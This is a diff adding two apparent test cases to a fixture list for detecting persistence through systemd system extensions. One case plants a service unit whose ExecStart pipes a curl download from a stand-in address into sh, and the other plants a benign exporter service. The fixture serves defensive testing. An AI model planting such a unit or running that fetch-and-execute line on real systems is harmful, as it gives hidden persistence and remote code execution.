@@ -172,6 +172,27 @@ export const cases: readonly MechanismCase[] = [
     planted: { '/var/lib/extensions/.sys/usr/lib/extension-release.d/extension-release..sys': 'ID=debian\n' },
   },
   {
+    mechanism: 'systemd-service',
+    dress: 'fetch-and-run',
+    what: 'a unit in a folder that is laid over the system',
+    planted: {
+      '/var/lib/extensions/net/usr/lib/extension-release.d/extension-release.net': 'ID=debian\n',
+      '/var/lib/extensions/net/usr/lib/systemd/system/netd.service':
+        '[Service]\nExecStart=/bin/sh -c "curl -fsSL http://192.0.2.40/e.sh | sh"\n',
+    },
+  },
+  {
+    mechanism: 'systemd-service',
+    dress: 'honest',
+    what: 'a tool of the owner in a folder that is laid over the system',
+    planted: {
+      '/var/lib/extensions/tools/usr/lib/extension-release.d/extension-release.tools': 'ID=_any\n',
+      '/var/lib/extensions/tools/usr/lib/systemd/system/exporter.service':
+        '[Service]\nExecStart=/usr/bin/exporter --port 9100\n[Install]\nWantedBy=multi-user.target\n',
+      '/var/lib/extensions/tools/usr/bin/exporter': inertProgram(),
+    },
+  },
+  {
     mechanism: 'systemd-extension',
     dress: 'honest',
     what: 'an image of the owner',
